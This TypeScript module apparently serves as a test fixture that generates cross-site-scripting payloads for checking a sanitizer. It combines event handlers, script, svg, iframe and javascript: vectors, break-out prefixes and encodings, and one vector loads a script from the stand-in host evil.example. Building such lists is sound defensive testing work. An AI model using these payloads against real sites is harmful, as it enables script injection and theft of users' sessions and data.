/**
 * Cross-site-scripting strings in the manner of the public lists (OWASP's cheat sheet, payloadbox, PortSwigger's table of
 * events): each way to run a script, each way to break out of where a text may stand, each way to hide both. All of them
 * call `hit()` or alert.
 */
export function xssStrings(): string[] {
  const strings = new Set<string>();
  for (const run of runners)
    for (const event of events) {
      strings.add(`<img src=x on${event}=${run}>`);
      strings.add(`"><svg on${event}="${run}">`);
      strings.add(`' autofocus on${event}='${run}' x='`);
    }
  for (const vector of vectors) {
    for (const way of waysOut) strings.add(way + vector);
    for (const hide of disguises) strings.add(hide(vector));
  }
  return [...strings];
}

const runners = ['hit()', 'alert`1`'];

const events = [
  'error load click mouseover mouseenter focus focusin blur input change submit reset select toggle beforetoggle',
  'animationstart animationend animationiteration transitionend transitionrun begin end repeat pageshow hashchange',
  'scroll scrollend wheel pointerdown pointerover pointerenter keydown keyup paste copy cut drag drop dragstart',
  'canplay play playing loadstart loadeddata loadedmetadata timeupdate volumechange contextmenu resize message',
].flatMap((line) => line.split(' '));

const vectors = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(document.domain)</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script\u000aSRC="javascript:hit()"></script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<img src=x onerror=hit()>',
  '<img src="x:gif" onerror="hit()">',
  '<img src=`x` onerror=hit()>',
  '<img """><script>hit()</script>">',
  '<img src=javascript:hit()>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:hit()>',
  '<svg/onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit() />#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<body onload=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()">',
  '<embed src="javascript:hit()">',
  '<a href="javascript:hit()">x</a>',
  '<a href="java&Tab;script:hit()">x</a>',
  '<form action="javascript:hit()"><input type=submit>',
  '<button formaction=javascript:hit()>x',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<marquee onstart=hit()>',
  '<style>@import "javascript:hit()";</style>',
  '<style>*{animation:x}@keyframes x{}</style><b style="animation-name:x" onanimationstart=hit()>',
  '<link rel=stylesheet href="javascript:hit()">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<base href="javascript:hit()//">',
  '<template><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<textarea></textarea><img src=x onerror=hit()>',
  '<title></title><img src=x onerror=hit()>',
  '<x onclick=hit() tabindex=1 autofocus onfocus=hit()>x',
  '<tribune-lightbox onclick=hit()></tribune-lightbox>',
  '$' + '{hit()}',
  '{{constructor.constructor("hit()")()}}',
  '<?lit$0$?>',
  '<!--lit-part--><img src=x onerror=hit()><!--/lit-part-->',
  'javascript:hit()//',
  'data:text/html,<script>parent.hit()</script>',
  '\u2028hit()\u2029',
  '<<script>hit();//<</script>',
  '<![CDATA[<script>hit()</script>]]>',
];

const waysOut = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '-->',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '"}]}',
];

const disguises: ((vector: string) => string)[] = [
  (vector) => vector.toUpperCase().replaceAll('HIT()', 'hit()'),
  (vector) => vector.replaceAll(' ', '/'),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (vector) => encodeURIComponent(vector),
];
